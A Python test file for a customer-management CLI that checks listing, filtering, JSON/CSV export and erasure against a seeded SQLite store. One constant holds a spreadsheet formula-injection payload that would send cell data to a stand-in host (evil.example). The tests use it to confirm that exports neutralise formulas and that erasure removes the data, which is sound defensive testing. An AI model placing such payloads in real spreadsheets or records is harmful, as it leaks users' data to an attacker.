"""`escalator customers list` and `escalator customer show|export|erase`, as an operator runs
them: a real process on a real SQLite file; the CSV read back with the `csv` module."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import timedelta
from pathlib import Path

from bot.flows.common import new_customer
from bot.flows.model import (
    CaseOpened,
    CustomerKey,
    Line,
    Profile,
    PurchaseRow,
    ReferralJoined,
    ScoreComment,
    ScoreRow,
)
from bot.flows.stages import Stage
from bot.storage import open_storage
from bot.storage.types import Change
from tests.cli.test_cli import escalator
from tests.conftest import START

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def _seed(db: Path) -> None:
    store = await open_storage(f"sqlite:///{db}", create=True)
    try:

        async def add(user: int, name: str, *records: object, **fields: object) -> None:
            key = CustomerKey("telegram", str(user))
            customer = new_customer(key, Profile(name, "en"), START).evolve(**fields)
            await store.journey.commit(
                Change(customer=customer, at=START, version=None, records=records)  # type: ignore[arg-type]
            )

        await add(1, "Jack", ScoreRow("nps", 10), ScoreComment("Great shop"), stage=Stage.CUSTOMER)
        await add(
            2,
            "+Ada",
            ReferralJoined("telegram:1"),
            ScoreRow("nps", 2),
            ScoreComment(HOSTILE),
            PurchaseRow("o-1", 19.5),
            CaseOpened("telegram:2#1", "nps score 2", "It arrived broken"),
            Line("customer", "It arrived broken", "+Ada"),
            referred_by="telegram:1",
            purchases=1,
            case_id="telegram:2#1",
            source="referral",
            last_contact_at=START + timedelta(days=3),
        )
        await add(
            3, "@Bob", ReferralJoined("telegram:2"), ScoreRow("nps", 8), referred_by="telegram:2"
        )
        await add(4, "-Cy\tX", ScoreRow("nps", 5), ScoreComment("-2+3 meh"), source="spring")
    finally:
        await store.close()


def _rows(db: Path, *args: str) -> list[dict[str, str]]:
    done = escalator(db, "customers", "list", "--format", "csv", *args)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("\ufeff")  # Excel reads UTF-8 only with the mark
    return list(csv.DictReader(io.StringIO(done.stdout.removeprefix("\ufeff"))))


def test_lists_filter_and_the_csv_opens_safely(tmp_path: Path) -> None:
    db = tmp_path / "c.db"
    asyncio.run(_seed(db))
    everyone = _rows(db)
    assert [row["id"] for row in everyone] == [f"telegram:{n}" for n in (1, 2, 3, 4)]
    jack = everyone[0]
    assert jack["referrals_gen1"] == "1" and jack["referrals_gen2"] == "1"
    assert jack["referrals_gen3"] == "0" and jack["stage"] == "customer"
    ada = everyone[1]
    assert ada["revenue"] == "19.5" and ada["purchases"] == "1" and ada["last_score"] == "2"
    # nothing a customer typed is taken for a formula
    assert ada["name"] == "'+Ada" and ada["last_comment"] == "'" + HOSTILE
    assert everyone[2]["name"] == "'@Bob" and everyone[3]["name"] == "'-Cy\tX"
    assert everyone[3]["last_comment"] == "'-2+3 meh"
    for row in everyone:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))

    def ids(*args: str) -> list[str]:
        return [row["id"] for row in _rows(db, *args)]

    assert ids("--score-group", "detractor") == ["telegram:2", "telegram:4"]
    assert ids("--score-group", "promoter") == ["telegram:1"]
    assert ids("--score-group", "passive") == ["telegram:3"]
    assert ids("--stage", "customer") == ["telegram:1"]
    assert ids("--source", "spring") == ["telegram:4"]
    assert ids("--referred-by", "1") == ["telegram:2"]
    assert ids("--has-open-case") == ["telegram:2"]
    assert ids("--text", "BROKEN") == ["telegram:2"]
    assert ids("--since", "2026-03-04") == ["telegram:2"]
    assert ids("--score-group", "detractor", "--text", "meh") == ["telegram:4"]

    listed = json.loads(escalator(db, "customers", "list", "--format", "json").stdout)
    assert [row["id"] for row in listed] == ["telegram:1", "telegram:2", "telegram:3", "telegram:4"]
    table = escalator(db, "customers", "list", "--text", "broken").stdout
    assert "+Ada" in table and "1 customer" in table
    bad = escalator(db, "customers", "list", "--since", "yesterday-ish")
    assert bad.returncode == 2 and "not a date" in bad.stderr


def test_show_export_and_erase(tmp_path: Path) -> None:
    db = tmp_path / "c.db"
    asyncio.run(_seed(db))
    shown = escalator(db, "customer", "show", "1")
    assert shown.returncode == 0, shown.stderr
    assert "generation 1: 1 joined" in shown.stdout and "generation 2: 1 joined" in shown.stdout
    assert "“Great shop”" in shown.stdout
    exported = json.loads(escalator(db, "customer", "export", "2").stdout)
    assert exported["customer"]["first_name"] == "+Ada"
    assert exported["messages"][0]["text"] == "It arrived broken"

    refused = escalator(db, "customer", "erase", "2")
    assert refused.returncode == 1 and "--yes" in refused.stderr
    erased = escalator(db, "customer", "erase", "2", "--yes", "--by", "Olga")
    assert erased.returncode == 0, erased.stderr
    assert "erased:1" in erased.stdout
    assert escalator(db, "customer", "show", "2").returncode == 1
    assert escalator(db, "customer", "erase", "2", "--yes").returncode == 1
    # Jack's figures still count the erased friend and the friend's friend
    after = escalator(db, "customer", "show", "1").stdout
    assert "generation 1: 1 joined" in after and "generation 2: 1 joined" in after
    rows = _rows(db)
    assert [row["id"] for row in rows] == ["telegram:1", "telegram:3", "telegram:4"]
    assert rows[0]["referrals_gen2"] == "1"
    raw = b"".join(path.read_bytes() for path in tmp_path.glob("c.db*"))
    assert b"It arrived broken" not in raw and b"HYPERLINK" not in raw
